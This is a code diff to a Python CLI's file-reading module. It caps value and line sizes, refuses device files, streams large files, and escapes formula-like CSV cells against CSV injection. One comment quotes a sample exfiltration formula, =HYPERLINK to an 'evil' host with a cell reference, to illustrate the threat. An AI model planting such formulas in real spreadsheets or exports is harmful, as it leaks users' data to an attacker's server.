@@ -98,14 +98,32 @@ def expand_glob(path: Path, file: str, key: str) -> list[Path]:
     return [path]
 
 
-def read_text(path: Path, file: str, key: str, *, keep_newlines: bool = False) -> str:
+# The largest cell, line or value factcli reads from a tests file, a var file or `--var` (characters):
+# one past it is an error naming where, not a run that holds gigabytes (docs/configuration.md).
+VALUE_LIMIT = 64 * 2**20
+VALUE_LIMIT_TEXT = "64 MiB"
+
+
+def _refuse_device(handle, path: Path, file: str, key: str) -> None:
+    """A character or block device (a file symlinked to /dev/zero or /dev/urandom) never ends: refused
+    before a byte is read."""
+    import stat
+
+    mode = os.fstat(handle.fileno()).st_mode
+    if stat.S_ISCHR(mode) or stat.S_ISBLK(mode):
+        raise ConfigError(f"{_which(path, file)}is a device, not a file (it never ends)", file, key)
+
+
+def read_text(path: Path, file: str, key: str, *, keep_newlines: bool = False, limit: int | None = None) -> str:
     """`keep_newlines`: the text as its bytes say (a CRLF inside a quoted CSV cell stays CRLF), else
-    with line ends made `\n`."""
+    with line ends made `\n`. `limit`: the most characters the text may have (VALUE_LIMIT for a value)."""
     try:
-        if keep_newlines:
-            with open(path, encoding="utf-8-sig", newline="") as handle:
-                return handle.read()
-        return path.read_text(encoding="utf-8-sig")
+        with open(path, encoding="utf-8-sig", newline="" if keep_newlines else None) as handle:
+            _refuse_device(handle, path, file, key)
+            text = handle.read() if limit is None else handle.read(limit + 1)
+        if limit is not None and len(text) > limit:
+            raise ConfigError(f"{_which(path, file)}is larger than the {VALUE_LIMIT_TEXT} a value may hold", file, key)
+        return text
     except FileNotFoundError:
         raise ConfigError(f"file not found: {path}", file, key) from None
     except UnicodeDecodeError as exc:
@@ -115,6 +133,50 @@ def read_text(path: Path, file: str, key: str, *, keep_newlines: bool = False) -
     except (OSError, ValueError) as exc:  # ValueError: a NUL in the name
         raise ConfigError(f"{_which(path, file)}cannot read: {getattr(exc, 'strerror', None) or exc}", file,
                           key) from None
+
+
+READ_CHUNK = 1 << 16  # characters read_chunks reads at a time
+
+
+def read_chunks(path: Path, file: str, key: str):
+    """A tests file's text a piece at a time, each piece ending after a newline (the last one: where the
+    file ends), its bytes kept as they are (a CRLF inside a quoted CSV cell stays CRLF): the file is
+    never held whole. A line longer than VALUE_LIMIT, or a device, is an error naming the file."""
+    import codecs
+
+    try:
+        handle = open(path, "rb")
+    except FileNotFoundError:
+        raise ConfigError(f"file not found: {path}", file, key) from None
+    except IsADirectoryError:
+        raise ConfigError(f"{path} is a folder, not a file", file, key) from None
+    except (OSError, ValueError) as exc:
+        raise ConfigError(f"{_which(path, file)}cannot read: {getattr(exc, 'strerror', None) or exc}", file,
+                          key) from None
+    with handle:
+        _refuse_device(handle, path, file, key)
+        decoder = codecs.getincrementaldecoder("utf-8-sig")()
+        held, offset = "", 0  # held: the text after the last newline; offset: the bytes decoded before
+        while True:
+            data = handle.read(READ_CHUNK)
+            try:
+                text = decoder.decode(data, final=not data)
+            except UnicodeDecodeError as exc:
+                raise ConfigError(f"{_which(path, file)}not UTF-8 text (byte {offset + exc.start})", file,
+                                  key) from None
+            offset += len(data)
+            held += text
+            cut = held.rfind("\n") + 1
+            if cut:
+                yield held[:cut]
+                held = held[cut:]
+            if len(held) > VALUE_LIMIT:
+                raise ConfigError(f"{_which(path, file)}has a line longer than the {VALUE_LIMIT_TEXT} a line may "
+                                  "hold", file, key)
+            if not data:
+                if held:
+                    yield held
+                return
 
 
 def _which(path: Path, file: str) -> str:
@@ -525,14 +587,19 @@ def file_var_value(path: Path, func: str | None, file: str, key: str) -> Any:
         return f"data:{mime or IMAGE_TYPES[suffix]};base64,{encoded}"
     if suffix == ".pdf":
         return _pdf_text(path, file, key)
-    return read_text(path, file, key).strip()
+    return read_text(path, file, key, limit=VALUE_LIMIT).strip()
 
 
 def _read_bytes(path: Path, file: str, key: str) -> bytes:
     try:
-        return path.read_bytes()
+        with open(path, "rb") as handle:
+            _refuse_device(handle, path, file, key)
+            data = handle.read(VALUE_LIMIT + 1)
     except OSError as exc:
         raise ConfigError(f"{path}: cannot read: {exc.strerror or exc}", file, key) from None
+    if len(data) > VALUE_LIMIT:
+        raise ConfigError(f"{path}: larger than the {VALUE_LIMIT_TEXT} a value may hold", file, key)
+    return data
 
 
 def _pdf_text(path: Path, file: str, key: str) -> str:
@@ -570,13 +637,38 @@ def _kind(value: Any) -> str:
     return "nothing" if value is None else type(value).__name__
 
 
-CSV_FIELD_LIMIT = 2**31 - 1  # the largest the csv module takes on every platform (a C long)
+CSV_FIELD_LIMIT = VALUE_LIMIT
 
 
 def allow_large_csv_cells() -> None:
-    """A CSV cell of any size loads (a long document in a cell): the csv module refuses cells over
+    """A CSV cell of up to VALUE_LIMIT loads (a long document in a cell): the csv module refuses cells over
     128 KiB unless told otherwise. Every CSV reader of inputs calls this first."""
     import csv
 
     if csv.field_size_limit() != CSV_FIELD_LIMIT:
         csv.field_size_limit(CSV_FIELD_LIMIT)
+
+
+# A CSV cell a spreadsheet would run as a formula (an output `=HYPERLINK("http://evil/?"&A1)`, a var
+# `@SUM(…)`) is written with a leading ' so that it shows as text (OWASP's CSV injection advice);
+# numbers (-0.5) stay numbers. Every CSV factcli writes for people (exports, `ratings export`) follows
+# this rule, and a CSV factcli reads back as its own (calibrate's labels) takes the ' off again.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutral_cell(value):
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        try:
+            float(value)
+        except ValueError:
+            return "'" + value
+    if isinstance(value, str) and value.startswith("'"):  # so that reading back is exact (cell_read_back)
+        return "'" + value
+    return value
+
+
+def cell_read_back(value):
+    """What neutral_cell wrote, as it was (a cell `'=…` is `=…`): the inverse, for factcli's own files."""
+    if isinstance(value, str) and value.startswith("'") and neutral_cell(value[1:]) == value:
+        return value[1:]
+    return value
